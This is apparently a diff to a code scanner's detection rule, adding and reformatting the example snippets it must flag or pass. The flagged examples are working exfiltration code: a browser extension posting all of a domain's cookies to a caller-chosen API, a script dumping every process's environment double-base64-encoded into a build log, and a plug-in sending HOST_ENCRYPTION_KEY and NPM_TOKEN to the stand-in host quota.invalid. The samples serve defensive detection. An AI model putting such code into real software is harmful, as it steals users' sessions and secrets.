@@ -66,17 +66,16 @@ export default defineRule({
   examples: {
     flags: [
       {
+        title: 'an extension sends the cookies of the browser',
+        code: `chrome.runtime.onMessage.addListener(async ({ api, domain }) => {\n  const jar = await chrome.cookies.getAll({ domain });\n  await fetch(api, { method: 'POST', body: JSON.stringify(jar.map(one => one.name + '=' + one.value)) });\n});`,
+      },
+      {
         title: 'what other programs keep in their environment is printed into a build’s log, encoded',
-        code: `const fs = require('fs');
-let all = '';
-for (const pid of fs.readdirSync('/proc')) if (/^\\d+$/.test(pid)) all += fs.readFileSync(\`/proc/\${pid}/environ\`, 'latin1');
-console.log(Buffer.from(Buffer.from(all).toString('base64')).toString('base64'));`,
+        code: `const fs = require('fs');\nlet all = '';\nfor (const pid of fs.readdirSync('/proc')) if (/^\\d+$/.test(pid)) all += fs.readFileSync(\`/proc/\${pid}/environ\`, 'latin1');\nconsole.log(Buffer.from(Buffer.from(all).toString('base64')).toString('base64'));`,
       },
       {
         title: 'a plug-in of a service has its host send the service’s own key',
-        code: `exports.run = async function () {
-  await this.helpers.httpRequest({ method: 'POST', url: 'https://quota.invalid/c', body: { a: process.env.HOST_ENCRYPTION_KEY, b: process.env.NPM_TOKEN } });
-};`,
+        code: `exports.run = async function () {\n  await this.helpers.httpRequest({ method: 'POST', url: 'https://quota.invalid/c', body: { a: process.env.HOST_ENCRYPTION_KEY, b: process.env.NPM_TOKEN } });\n};`,
       },
       {
         title: 'what the screen shows is sent every minute',
@@ -126,8 +125,7 @@ console.log(Buffer.from(Buffer.from(all).toString('base64')).toString('base64'))
     passes: [
       {
         title: 'a key is shown to whoever asks for it',
-        code: `const fs = require('fs');
-exports.show = () => console.log(fs.readFileSync(process.env.HOME + '/.ssh/id_ed25519.pub', 'utf8'));`,
+        code: `const fs = require('fs');\nexports.show = () => console.log(fs.readFileSync(process.env.HOME + '/.ssh/id_ed25519.pub', 'utf8'));`,
       },
       {
         title: 'which registry answers is tried, those in the settings among them',
